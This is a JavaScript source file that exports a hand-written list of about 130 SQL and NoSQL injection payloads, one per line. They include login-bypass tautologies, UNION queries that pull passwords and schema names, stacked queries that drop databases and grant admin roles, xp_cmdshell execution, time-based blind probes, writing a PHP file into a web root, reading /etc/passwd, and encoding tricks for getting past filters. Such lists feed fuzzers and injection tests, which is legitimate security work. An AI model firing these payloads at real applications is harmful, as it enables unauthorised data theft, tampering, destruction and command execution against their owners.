/** Written by hand: ways a value breaks out of a query. One a line. */
export const SQL_FRAGMENTS = String.raw`
' or 7=7 --
' or 'k'='k
" or "k"="k
') or ('k'='k
')) or (('k'='k
' or 3>2 #
' or not false --
' or 5 between 4 and 6 --
' or 'abc' like 'a%
' or 1 in (1,2,3) --
' || '1'='1
' && 1=1 #
anna' --
anna'#
anna'/*
anna') --
anna')) #
9 or 9=9
9 or 9=9 --
9 and 8=9
9) or (9=9
9)) or ((9=9
-4 or true
-4 or 1=1 limit 1 --
or 6=6
and 6=7
|| 6=6
) or 6=6 --
' union select null --
' union select null,null,null --
' union all select 1,2,3 #
" union select user(),database() --
-9 union select 1,@@version,3
-9 union all select table_name,2 from information_schema.tables
9' union select name from sqlite_master --
9 union distinct select password from users
9/**/union/**/select/**/pass/**/from/**/users
9%20union%20select%201,2
9+union+select+1,2,3--
9 /*!50000union*/ /*!50000select*/ 1,2
uNiOn SeLeCt 4,5,6
' union/**/all/**/select 'x','y' --
'; drop table orders --
'; delete from sessions where 1=1 --
'; update users set role='admin' where name='eve' --
'; insert into admins (name) values ('eve') --
'; truncate table audit --
'; exec xp_cmdshell 'dir' --
'; waitfor delay '0:0:7' --
'; shutdown --
'; declare @q varchar(99); set @q = 'x'; exec(@q) --
'; create user eve identified by 'x' --
'; alter table users drop column mail --
9; drop database shop
9; call p_reset(@a, 1)
9; load xml infile "a.xml" into table t
9; select pg_sleep(6)
9 and sleep(6)
9 and (select * from (select(sleep(6)))a)
9' and sleep(6) and '1'='1
9' and benchmark(4000000,md5(1)) --
9 or pg_sleep(6)--
9' || pg_sleep(6) --
' and extractvalue(1,concat(0x7e,version())) --
' and updatexml(1,concat(0x7e,(select user())),1) --
' and 1=convert(int,@@version) --
' and 1=cast((select name from users limit 1) as int) --
' and ascii(substring((select database()),1,1))>96 --
' and length(database())=8 --
' and (select count(*) from users)>0 --
' and exists(select 1 from admins) --
' and substr(password,1,1)='a
' and mid(version(),1,1)='8
' or if(1=1,sleep(4),0) --
' order by 9 --
9 order by 12--
') order by 3 #
' group by name having 1=1 --
' having 3=3 --
' procedure analyse() --
' into outfile '/var/www/x.php' --
9 into dumpfile '/tmp/o'
9 limit 1 into outfile '/tmp/o'
' and (select load_file('/etc/passwd')) --
'+(select top 1 name from sysobjects)+'
'||(select banner from v$version)||'
' + char(65) + '
k' * 2 = '4
k' - 0 is not null --
k' is null or 'z
k' xor 1 or 'z
k' rlike '0
k' regexp '.*
k' in ('k') or 'z'='z
k' / 1 like '0
k' & 1 = '0
k' mod 3 = '0
k' div 1 or '1
k' << 2 = '0
k' not between 1 and 2 or 'z
k' and name like '%adm%
case when 4 > 3 then 1 else 0 end
9 and case when (3=3) then 1 else (select 1 union select 2) end
ascii(substr(user(),2,1))
concat(database(),0x3a,version())
(7 * @@port) --
( 'q' * 3 ) --
9' and '9'='9' /*
%27%20or%205%3D5--
%2527%20or%205=5--
&#39; or 5=5 --
ʼ or 1=1 --
"" or ""x""=""x
{"$ne": null}
{"$gt": ""}
[$regex]=.*&user[$ne]=x
' || this.password.match(/.*/) || 'a'=='b
`
  .trim()
  .split('\n');
